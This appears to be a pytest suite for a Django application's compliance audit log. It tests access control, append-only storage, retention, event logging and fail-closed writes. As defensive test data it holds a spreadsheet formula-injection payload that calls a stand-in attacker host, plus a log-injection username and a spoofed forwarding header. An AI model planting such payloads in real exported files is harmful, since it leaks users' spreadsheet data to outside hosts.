"""等保 8.1.4.3 安全审计: the log is written for every event that matters, read by committee administrators
only, exported as values, never edited or deleted by the application, kept 180 days, and a business change
whose audit row cannot be written does not happen (fail closed)."""

from __future__ import annotations

import io
import zipfile
from datetime import timedelta

import openpyxl
import pytest
from django.conf import settings
from django.core.management import CommandError, call_command
from django.db import DatabaseError, connection
from django.test import Client
from django.urls import get_resolver, reverse
from django.utils import timezone

from taizhang.accounts.models import RoleAssignment
from taizhang.core.models import AuditLog
from taizhang.core.tests.factories import PASSWORD, make_user

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?"&A1,"点此")'


def _client(user) -> Client:  # noqa: ANN001
    client = Client()
    client.force_login(user)
    return client


def _row(**kw) -> AuditLog:  # noqa: ANN003
    kw.setdefault("action", "other")
    return AuditLog.objects.create(**kw)


# --- DJB-AUD-01 / DJB-AC-04: who reads the log -----------------------------------------------------


def test_DJB_AC_04_audit_log_page_is_for_committee_admins_only(world):
    url = reverse("core:audit_list")
    assert _client(world.admin).get(url).status_code == 200
    branch_admin = make_user(username="t_branch_admin", roles=(("admin", world.branch_a),))
    for user in (world.leader, world.secretary_a, world.member_a, world.nobody, branch_admin):
        assert _client(user).get(url).status_code == 403, user
    assert AuditLog.objects.filter(action="denied", user=branch_admin, path=url).exists()
    assert Client().get(url)["Location"].startswith(reverse("accounts:login"))


def test_DJB_AUD_01_audit_log_is_in_the_admins_navigation_only(world):
    url = reverse("core:audit_list")
    assert f'href="{url}"' in _client(world.admin).get(reverse("core:home")).content.decode()
    assert f'href="{url}"' not in _client(world.secretary_a).get(reverse("core:home")).content.decode()


def test_DJB_AUD_02_filters_by_user_action_result_date_type_and_address(world):
    old = timezone.now() - timedelta(days=40)
    _row(username="zhao", action="login", ip="10.1.1.1", at=old)
    _row(username="zhao", action="login_failed", success=False, ip="10.1.1.2")
    _row(username="qian", action="export", object_type="reports.Ledger", ip="10.1.1.1")
    client = _client(world.admin)
    url = reverse("core:audit_list")

    def shown(**params) -> list[str]:  # noqa: ANN003
        page = client.get(url, params).context["page"]
        return sorted(f"{r.username}:{r.action}" for r in page if r.username in ("zhao", "qian"))

    assert shown(user="zhao") == ["zhao:login", "zhao:login_failed"]
    assert shown(action="export") == ["qian:export"]
    assert shown(success="0", user="zhao") == ["zhao:login_failed"]
    today = timezone.localdate()
    assert shown(date_from=f"{today - timedelta(days=1):%Y-%m-%d}", user="zhao") == ["zhao:login_failed"]
    assert shown(date_to=f"{today - timedelta(days=30):%Y-%m-%d}") == ["zhao:login"]
    assert shown(object_type="Ledger") == ["qian:export"]
    assert shown(ip="10.1.1.1") == ["qian:export", "zhao:login"]
    assert shown(ip="not-an-ip") == []
    response = client.get(url, {"date_from": "2024-02-01", "date_to": "2024-01-01"})
    assert "截止日期不能早于起始日期" in response.content.decode()


def test_DJB_AUD_01_audit_page_is_paginated_with_a_bounded_number_of_queries(
    world, django_assert_num_queries
):
    from django.db import connection as conn
    from django.test.utils import CaptureQueriesContext

    client = _client(world.admin)
    url = reverse("core:audit_list")
    client.get(url)
    AuditLog.objects.bulk_create([AuditLog(action="other", username=f"u{i}") for i in range(5)])
    with CaptureQueriesContext(conn) as small:
        client.get(url)
    AuditLog.objects.bulk_create([AuditLog(action="other", username=f"v{i}") for i in range(150)])
    with django_assert_num_queries(len(small.captured_queries)):
        response = client.get(url)
    assert len(response.context["page"]) == 50
    assert "下一页" in response.content.decode()


def test_DJB_AUD_01_audit_export_is_values_only_and_is_itself_audited(world):
    _row(username="zhao", action="update", object_repr=HOSTILE, detail={"note": "+1+1"})
    response = _client(world.admin).get(reverse("core:audit_list"), {"format": "xlsx", "user": "zhao"})
    assert response.status_code == 200
    data = b"".join(response.streaming_content) if response.streaming else response.content
    sheet_xml = zipfile.ZipFile(io.BytesIO(data)).read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in sheet_xml
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    values = [c.value for row in ws.iter_rows(min_row=2) for c in row]
    assert HOSTILE in values
    assert all(c.data_type != "f" for row in ws.iter_rows() for c in row)
    export = AuditLog.objects.get(action="export", object_type="core.AuditLog")
    assert (
        export.user == world.admin
        and export.detail["rows"] == 1
        and export.detail["filters"] == {"user": "zhao"}
    )


# --- DJB-AUD-03: append-only, retention -------------------------------------------------------------


def test_DJB_AUD_03_the_application_cannot_edit_or_delete_audit_rows(world):
    row = _row(username="zhao")
    row.username = "someone else"
    with pytest.raises(PermissionError):
        row.save()
    with pytest.raises(PermissionError):
        row.delete()
    assert "django.contrib.admin" not in settings.INSTALLED_APPS  # no admin site to edit it from
    names = [n for n in get_resolver().namespace_dict["core"][1].reverse_dict if isinstance(n, str)]
    assert [n for n in names if "audit" in n] == ["audit_list"]
    assert _client(world.admin).post(reverse("core:audit_list")).status_code == 405


@pytest.mark.skipif(connection.vendor != "postgresql", reason="the trigger exists on PostgreSQL only")
def test_DJB_AUD_03_postgresql_trigger_refuses_update_and_delete_of_audit_rows(world):
    from django.db import transaction

    row = _row(username="zhao")
    for sql in (
        "UPDATE core_auditlog SET username = 'x' WHERE id = %s",
        "DELETE FROM core_auditlog WHERE id = %s",
    ):
        with (
            pytest.raises(DatabaseError, match="审计日志只能追加"),
            transaction.atomic(),
            connection.cursor() as c,
        ):
            c.execute(sql, [row.pk])
    assert AuditLog.objects.filter(pk=row.pk, username="zhao").exists()
    # Deleting the account only clears the link; the row and its username stay.
    user = make_user(username="t_leaver")
    kept = _row(user=user, username="t_leaver")
    user.delete()
    assert AuditLog.objects.filter(pk=kept.pk, user=None, username="t_leaver").exists()


def test_DJB_AUD_03_audit_purge_refuses_anything_younger_than_180_days(world):
    today = timezone.localdate()
    young = _row(username="young", at=timezone.now() - timedelta(days=170))
    with pytest.raises(CommandError, match="至少保留180天"):
        call_command("audit_purge", "--before", f"{today - timedelta(days=170):%Y-%m-%d}")
    assert AuditLog.objects.filter(pk=young.pk).exists()
    ancient = _row(username="ancient", at=timezone.now() - timedelta(days=400))
    out = io.StringIO()
    call_command("audit_purge", "--before", f"{today - timedelta(days=181):%Y-%m-%d}", stdout=out)
    assert "已删除 1 条" in out.getvalue()
    assert not AuditLog.objects.filter(pk=ancient.pk).exists()
    assert AuditLog.objects.filter(pk=young.pk).exists()
    assert AuditLog.objects.filter(action="purge", detail__rows=1).exists()
    # Outside the purge the protection is back (on PostgreSQL the setting was local to that transaction).
    if connection.vendor == "postgresql":
        from django.db import transaction

        with pytest.raises(DatabaseError), transaction.atomic(), connection.cursor() as c:
            c.execute("DELETE FROM core_auditlog WHERE id = %s", [young.pk])


# --- DJB-AUD-01: every event that matters leaves a row -------------------------------------------


def test_DJB_AUD_01_login_failure_success_and_logout_are_logged_with_address(world):
    client = Client()
    client.post(
        reverse("accounts:login"), {"username": "t_sec_a", "password": "nope"}, REMOTE_ADDR="10.2.3.4"
    )
    client.post(
        reverse("accounts:login"), {"username": "t_sec_a", "password": PASSWORD}, REMOTE_ADDR="10.2.3.4"
    )
    client.post(reverse("accounts:logout"), REMOTE_ADDR="10.2.3.4")
    rows = list(
        AuditLog.objects.filter(username="t_sec_a").order_by("id").values_list("action", "success", "ip")
    )
    assert rows == [
        ("login_failed", False, "10.2.3.4"),
        ("login", True, "10.2.3.4"),
        ("logout", True, "10.2.3.4"),
    ]


def test_DJB_AUD_02_a_forged_forwarded_for_header_does_not_change_the_logged_address(world):
    Client().post(
        reverse("accounts:login"),
        {"username": "t_sec_a", "password": "nope"},
        REMOTE_ADDR="10.2.3.4",
        HTTP_X_FORWARDED_FOR="1.2.3.4",
    )
    assert AuditLog.objects.get(action="login_failed").ip == "10.2.3.4"


def test_DJB_AUD_02_a_username_with_line_breaks_is_stored_as_data(world):
    Client().post(reverse("accounts:login"), {"username": "evil\nadmin login ok", "password": "x"})
    row = AuditLog.objects.get(action="login_failed")
    assert row.username == "evil\nadmin login ok"  # one row, the text kept verbatim in its own column
    page = _client(world.admin).get(reverse("core:audit_list"), {"action": "login_failed"}).content.decode()
    assert "evil\nadmin login ok" in page or "evil\r\nadmin login ok" in page


def test_DJB_AUD_01_permission_denials_are_logged_403_and_404(world):
    from taizhang.rectification.models import Problem  # noqa: F401 - the app is installed

    _client(world.secretary_b).get(reverse("org:detail", args=[world.branch_a.pk]))
    row = AuditLog.objects.get(action="denied", user=world.secretary_b)
    assert (
        row.detail["status"] == 404 and row.success is False and row.path.endswith(f"/{world.branch_a.pk}/")
    )
    _client(world.member_a).get(reverse("accounts:user_list"))
    assert AuditLog.objects.filter(action="denied", user=world.member_a, detail__status=403).exists()


def test_DJB_AUD_01_exports_and_imports_are_logged(world):
    admin = _client(world.admin)
    admin.get(reverse("reports:ledger_download", args=["problems"]), {"campaign": world.campaign.pk})
    assert AuditLog.objects.filter(action="export", user=world.admin).count() == 1
    admin.get(reverse("imports:export"), {"sheet": "党员"})
    assert AuditLog.objects.filter(action="export", user=world.admin).count() == 2
    from taizhang.imports.template import template_workbook

    upload = io.BytesIO(template_workbook(activity_types=["支部集中学习"]))
    upload.name = "台账.xlsx"
    admin.post(reverse("imports:upload"), {"file": upload})
    row = AuditLog.objects.get(action="import", user=world.admin)
    assert row.detail["file"] == "台账.xlsx" and len(row.detail["sha256"]) == 64


# --- Fail closed ------------------------------------------------------------------------------------


def test_DJB_AUD_01_a_change_whose_audit_row_cannot_be_written_does_not_happen(world, monkeypatch):
    admin = Client(raise_request_exception=False)
    admin.force_login(world.admin)

    def broken(*args, **kwargs):  # noqa: ANN002, ANN003
        raise DatabaseError("audit table unavailable")

    monkeypatch.setattr(AuditLog.objects, "create", broken)
    response = admin.post(
        reverse("accounts:role_grant", args=[world.secretary_a.pk]),
        {"org": world.branch_b.pk, "role": "leader"},
    )
    assert response.status_code == 500
    assert not RoleAssignment.objects.filter(user=world.secretary_a, org=world.branch_b).exists()
    member = world.people_a[2]
    response = admin.post(reverse("org:member_set_active", args=[member.pk]), {"active": "0"})
    member.refresh_from_db()
    assert response.status_code == 500 and member.is_active


def test_DJB_AUD_01_the_pages_export_link_downloads_the_filtered_rows(world):
    import re

    _row(username="zhao", action="update", object_repr="甲")
    client = _client(world.admin)
    page = client.get(reverse("core:audit_list"), {"user": "zhao"}).content.decode()
    href = re.search(r'class="[^"]*audit-export[^"]*" href="([^"]+)"', page).group(1).replace("&amp;", "&")
    response = client.get(reverse("core:audit_list") + href)
    assert response["Content-Type"].startswith("application/vnd.openxmlformats")
    data = b"".join(response.streaming_content) if response.streaming else response.content
    ws = openpyxl.load_workbook(io.BytesIO(data)).active
    assert [c.value for c in ws[2]].count("zhao") == 1 and ws.max_row == 2
